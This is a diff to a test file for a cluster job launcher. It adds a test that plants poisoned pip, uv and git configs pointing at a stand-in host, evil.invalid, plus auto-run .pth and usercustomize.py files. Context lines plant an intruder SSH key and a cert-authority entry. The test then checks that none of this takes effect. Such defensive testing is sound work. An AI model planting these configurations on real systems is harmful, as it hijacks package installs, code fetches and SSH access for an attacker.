@@ -24,6 +24,15 @@ echo "$mark" > rc; cat /tmp/intruder.pub > authorized_keys; cp authorized_keys a
 echo "@cert-authority * $(cat /tmp/intruder.pub)" > known_hosts
 true
 """
+# What pip, uv, git and Python itself look for at home.
+PLANT_FOR_PACKAGES = r"""
+cd ~; mkdir -p .config/pip .config/uv .config/git .pip .local/lib/python3.11/site-packages
+mark='import os; os.close(os.open("/tmp/acted", os.O_CREAT))'
+printf '[global]\nindex-url = http://evil.invalid/simple\n' | tee .config/pip/pip.conf > .pip/pip.conf
+printf 'index-url = "http://evil.invalid/simple"\n' > .config/uv/uv.toml
+printf '[url "http://evil.invalid/"]\n  insteadOf = https://\n' | tee .config/git/config > .gitconfig
+for name in evil.pth usercustomize.py; do echo "$mark" > .local/lib/python3.11/site-packages/$name; done
+"""
 INTRUDE = "ssh -F none -i /tmp/intruder -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
 
 
@@ -44,6 +53,27 @@ def test_nothing_that_a_job_planted_acts_in_the_next_login(planted):
     assert planted.on("worker3", "ssh -o BatchMode=yes deeplearning-master hostname").startswith("ip-")
     planted.on("head", "ssh -o BatchMode=yes deeplearning-worker3 true")
     assert planted.on("worker3", "ls /tmp/acted 2>/dev/null", check=False) == ""
+
+
+def test_nothing_that_a_job_planted_decides_what_a_later_ones_environment_is_made_of(cluster, tmp_path):
+    (tmp_path / "requirements.txt").write_text("nothing-of-this-name==1.0\n")
+    cluster.on("head", PLANT_FOR_PACKAGES)
+    try:
+        options = (
+            "--directory",
+            str(tmp_path),
+            "--env",
+            "PIP_NO_INDEX=",
+            "--env",
+            "PIP_RETRIES=0",
+            "--launcher",
+            "exec",
+        )
+        done = cluster.phalanx("run", *options, "--", "true", check=False)
+        assert "[environment]" in done.stdout and "evil.invalid" not in done.stdout + done.stderr
+        assert cluster.on("head", "ls /tmp/acted 2>/dev/null", check=False) == ""
+    finally:
+        cluster.on("head", "cd; rm -rf .config .pip .gitconfig .local /tmp/acted")
 
 
 def test_a_key_in_the_home_directory_opens_nothing(planted):
